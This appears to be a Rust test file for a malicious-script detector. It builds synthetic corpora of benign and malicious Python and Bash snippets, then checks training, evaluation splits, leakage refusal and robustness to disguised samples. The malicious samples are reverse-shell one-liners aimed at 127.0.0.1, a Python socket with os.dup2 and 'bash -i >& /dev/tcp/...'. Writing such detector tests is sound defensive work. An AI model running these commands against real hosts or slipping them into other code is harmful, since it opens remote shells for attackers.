//! Training and evaluation, whole, on small corpora of imitations that are made here.

#![allow(clippy::unwrap_used, reason = "a test stops at what it does not expect")]

use detect::Detector;
use detect::model::Model;
use evidence::{Label, Language};
use learn::{Data, EvalOptions, LearnError, Measure, Report, TrainOptions, Trained};
use std::fmt::Write;
use std::num::NonZeroUsize;
use std::path::{Path, PathBuf};

/// One text of each label and language.
fn texts(at: usize) -> [(&'static str, &'static str, String); 4] {
    let attack = format!(
        "import socket,os\ns=socket.socket()\ns.connect(('127.0.0.1',{at}))\nos.dup2(s.fileno(),0) # {at}"
    );
    let sum = format!("def total_{at}(rows):\n    return sum(row.price for row in rows) + {at}\n");
    [
        ("python", "malicious", attack),
        ("python", "benign", sum),
        ("bash", "malicious", format!("bash -i >& /dev/tcp/127.0.0.1/{at} 0>&1 # {at}")),
        ("bash", "benign", format!("set -e\nmake -j{at} test\necho finished {at}\n")),
    ]
}

/// Lines for clusters of each label in both languages.
fn corpus_lines(clusters: std::ops::Range<usize>) -> String {
    let mut lines = String::new();
    for at in clusters {
        for (lang, label, text) in texts(at) {
            let line = serde_json::json!({
                "label": label, "lang": lang, "text": text, "source": format!("source-{}", at % 7),
                "cluster": format!("{lang}-{label}-{at}"), "label_confidence": "high", "id": format!("made:{at}"),
                "kind": if at % 2 == 0 { "oneliner" } else { "file" }, "date": format!("20{:02}-01-01", 10 + at % 10),
            });
            writeln!(lines, "{line}").unwrap();
        }
    }
    lines
}

fn folder_with(name: &str, lines: &str) -> (tempfile::TempDir, PathBuf) {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().to_owned();
    std::fs::write(path.join(name), zstd::encode_all(lines.as_bytes(), 1).unwrap()).unwrap();
    (folder, path)
}

fn options(corpus: &Path) -> TrainOptions {
    let data = Data { corpora: vec![corpus.to_owned()], ..Data::default() };
    TrainOptions { data, folds: 2, imitations: 2, ..TrainOptions::default() }
}

fn train(corpus: &Path) -> Trained {
    learn::train(&options(corpus), &mut |_| {}).unwrap()
}

fn eval(corpus: &Path, by: Measure) -> Result<Report, LearnError> {
    let options = EvalOptions { training: options(corpus), by, disguised_clusters: 0 };
    learn::evaluate(&options, &mut |_| {})
}

#[track_caller]
fn refused(result: Result<Report, LearnError>, expected: &str) {
    let error = result.unwrap_err().to_string();
    assert!(error.contains(expected), "{error}");
}

#[test]
fn a_model_is_trained_measured_and_used() {
    let (_folder, corpus) = folder_with("made.jsonl.zst", &corpus_lines(0..40));
    let mut stages = 0;
    let trained = learn::train(&options(&corpus), &mut |_| stages += 1).unwrap();
    assert!(stages > 10);
    assert_eq!(trained.report.corpus.samples, 160);
    assert_eq!(trained.report.languages.len(), 2);
    for language in &trained.report.languages {
        assert_eq!((language.malicious_clusters, language.benign_clusters), (40, 40));
        assert!(
            language.recall.iter().all(|at| at.recall > 0.9 && at.low <= at.recall && at.recall <= at.high)
        );
        assert_eq!(language.by_kind.len(), 2);
        assert_eq!(language.hard_negatives.first().map(|row| row.name.as_str()), Some("one-liners"));
        assert_eq!(language.highest_benign.first().map(|error| error.file.as_str()), Some("made"));
    }
    let detector = Detector::from_bytes(&trained.model).unwrap();
    assert_eq!(detector.model_id(), trained.model_id);
    let attack = b"sh -i >& /dev/tcp/127.0.0.1/99 0>&1";
    assert_eq!(detector.judge(Language::Shell, (attack, b"")).label, Label::Malicious);
    assert_eq!(detector.judge(Language::Shell, (b"set -e\nmake test\n", b"")).label, Label::Benign);
    let table = trained.report.to_string();
    assert!(table.contains("recall at 0.10 % false alarms"), "{table}");
    assert!(trained.report.markdown().contains("\n#### Recall at fixed rates of false alarms\n"));
    serde_json::to_string(&trained.report).unwrap();
}

#[test]
fn a_models_header_tells_the_rates_of_its_report() {
    let (_folder, corpus) = folder_with("made.jsonl.zst", &corpus_lines(0..20));
    let trained = train(&corpus);
    let model = Model::from_bytes(&trained.model).unwrap();
    for report in &trained.report.languages {
        let part = model.scorer(report.language).parameters();
        for (point, rate) in report.thresholds.iter().zip([part.malicious_rate, part.suspicious_rate]) {
            assert!((point.false_alarms.share - f64::from(rate)).abs() < 1e-6);
        }
    }
}

#[test]
fn the_same_seed_gives_the_same_model_on_any_number_of_threads() {
    let (_folder, corpus) = folder_with("made.jsonl.zst", &corpus_lines(0..10));
    let on = |threads| {
        let options = TrainOptions { threads: NonZeroUsize::new(threads), ..options(&corpus) };
        learn::train(&options, &mut |_| {}).unwrap()
    };
    let (one, three) = (on(1), on(3));
    assert!(one.model == three.model);
    assert_eq!(one.report, three.report);
}

#[test]
fn a_broken_line_is_named_or_counted() {
    let mut lines = corpus_lines(0..10);
    lines.push_str("{\"label\": \"malicious\", \"lang\": \"\x1b[2J\", \"text\": \"\"}\nnot json\n\n{}\n");
    let (_folder, corpus) = folder_with("made.jsonl.zst", &lines);
    let error = learn::train(&options(&corpus), &mut |_| {}).unwrap_err().to_string();
    assert!(error.contains("made.jsonl.zst, line 41: ") && !error.contains('\x1b'), "{error}");
    let mut options = options(&corpus);
    options.data.skip_broken = true;
    let report = learn::train(&options, &mut |_| {}).unwrap().report;
    assert_eq!((report.corpus.samples, report.corpus.corrupt), (40, vec![("made.jsonl.zst".to_owned(), 3)]));
}

#[test]
fn a_damaged_file_is_named_or_counts_up_to_the_damage() {
    let (_folder, corpus) = folder_with("good.jsonl.zst", &corpus_lines(0..10));
    let mut damaged = zstd::encode_all(corpus_lines(10..500).as_bytes(), 1).unwrap();
    damaged.truncate(damaged.len() / 2);
    std::fs::write(corpus.join("torn.jsonl.zst"), damaged).unwrap();
    refused(eval(&corpus, Measure::Clusters), "the file is damaged from here on");
    let mut options = options(&corpus);
    options.data.skip_broken = true;
    let report = learn::train(&options, &mut |_| {}).unwrap().report;
    assert_eq!(report.corpus.corrupt, [("torn.jsonl.zst".to_owned(), 1)]);
}

#[test]
fn a_corpus_that_is_missing_or_one_sided_is_refused() {
    let empty = tempfile::tempdir().unwrap();
    let error = |corpus: &Path| learn::train(&options(corpus), &mut |_| {}).unwrap_err();
    assert!(matches!(error(empty.path()), LearnError::NoCorpus(_)));
    assert!(matches!(error(&empty.path().join("none")), LearnError::Unreadable { .. }));
    let lines: String = corpus_lines(0..5)
        .lines()
        .filter(|line| line.contains("benign"))
        .map(|line| format!("{line}\n"))
        .collect();
    let (_folder, corpus) = folder_with("made.jsonl.zst", &lines);
    assert!(matches!(error(&corpus), LearnError::TooFew { label: "malicious", .. }));
}

#[test]
fn sources_and_later_dates_are_held_out() {
    let (_folder, corpus) = folder_with("made.jsonl.zst", &corpus_lines(0..40));
    let by_source = eval(&corpus, Measure::Sources).unwrap();
    assert!(by_source.split.contains("whole sources") && by_source.languages.len() == 2);
    let later = eval(&corpus, Measure::Since("2015".to_owned())).unwrap();
    for language in &later.languages {
        assert_eq!(language.malicious_clusters, 20);
        assert!((1..40).contains(&language.benign_clusters), "{}", language.benign_clusters);
    }
    refused(eval(&corpus, Measure::Since("yesterday".to_owned())), "the date must be");
}

#[test]
fn a_test_set_that_training_knows_is_refused_with_an_example() {
    let (_folder, corpus) = folder_with("made.jsonl.zst", &corpus_lines(0..20));
    let test = |lines: &str, leave_known_out| {
        let (_folder, path) = folder_with("test.jsonl.zst", lines);
        let data = Data { corpora: vec![path.join("test.jsonl.zst")], ..Data::default() };
        eval(&corpus, Measure::Test { data, leave_known_out })
    };
    assert_eq!(test(&corpus_lines(20..30), false).unwrap().languages[0].malicious_clusters, 10);
    let leaking = corpus_lines(19..30);
    refused(
        test(&leaking, false),
        "test, line 1 (made:19) and made, line 77 (made:19) are the same text, and 3 more",
    );
    let report = test(&leaking, true).unwrap();
    assert!(report.split.contains("4 texts that training knows were left out"), "{}", report.split);
    // Another text of the same cluster.
    let like = corpus_lines(19..30).replace("finished", "done");
    let like: String = like.lines().skip(3).map(|line| format!("{line}\n")).collect();
    refused(test(&like, false), "are of one cluster, and 0 more");
    // Near-duplicates are found where no cluster is named.
    let unnamed = corpus_lines(19..30).replace("\"cluster\"", "\"group\"").replace("finished", "done ");
    refused(test(&unnamed, false), "made, line");
}

#[test]
fn a_finished_model_is_measured_with_a_warning() {
    let (_folder, corpus) = folder_with("made.jsonl.zst", &corpus_lines(0..20));
    let trained = train(&corpus);
    let report = eval(&corpus, Measure::Model(trained.model)).unwrap();
    assert_eq!(report.model.as_ref(), Some(&trained.model_id));
    assert!(report.warnings[0].contains("may have been trained on these texts"));
    assert!(report.languages.iter().all(|language| language.recall[0].recall > 0.9));
    assert!(eval(&corpus, Measure::Model(b"no model".to_vec())).is_err());
}

#[test]
fn two_folders_of_scripts_make_a_model() {
    let folder = tempfile::tempdir().unwrap();
    for at in 0..12 {
        for (lang, label, text) in texts(at) {
            if lang == "python" {
                // Words of its own keep one text from being a near-duplicate of the next.
                let own: String =
                    (0..60).map(|word| format!("w{}_{word} = {at}\n", at * 100 + word)).collect();
                let place = folder.path().join(label).join(format!("project-{at}"));
                std::fs::create_dir_all(&place).unwrap();
                std::fs::write(place.join("setup.py"), format!("{text}\n{own}")).unwrap();
            }
        }
    }
    std::fs::write(folder.path().join("benign/README"), "no script").unwrap();
    let data = Data {
        malicious: vec![folder.path().join("malicious")],
        benign: vec![folder.path().join("benign")],
        ..Data::default()
    };
    let options = TrainOptions { data, folds: 2, imitations: 0, ..TrainOptions::default() };
    let trained = learn::train(&options, &mut |_| {}).unwrap();
    let report = &trained.report;
    assert_eq!((report.corpus.samples, report.corpus.clustered, report.corpus.no_script), (24, 24, 1));
    assert_eq!((report.languages[0].malicious_clusters, report.languages[0].benign_clusters), (12, 12));
    assert_eq!(report.warnings, ["no shell texts: that part is the built-in model's"]);
    assert_eq!(
        report.languages[0].by_source.iter().map(|group| group.name.as_str()).collect::<Vec<_>>(),
        ["benign", "malicious"]
    );
    let built_in = Detector::built_in();
    let own = Model::from_bytes(&trained.model).unwrap();
    assert_eq!(
        own.scorer(Language::Shell).parameters(),
        built_in.model().scorer(Language::Shell).parameters()
    );
}

#[test]
fn disguised_texts_are_judged_by_a_model_that_does_not_know_them() {
    let (_folder, corpus) = folder_with("made.jsonl.zst", &corpus_lines(0..20));
    let options = EvalOptions { training: options(&corpus), disguised_clusters: 5, ..EvalOptions::default() };
    let report = learn::evaluate(&options, &mut |_| {}).unwrap();
    let of = |name: &str, is_malicious| {
        let row = |row: &&learn::Robustness| row.disguise == name && row.is_malicious == is_malicious;
        report.robustness.iter().filter(row).map(|row| row.clusters).collect::<Vec<_>>()
    };
    assert_eq!(of("base64", true), [5, 5]);
    assert_eq!(of("minify", false).len(), 2);
    assert!(of("minify", true).is_empty());
    assert!(report.to_string().contains("Malicious texts in disguise"));
}
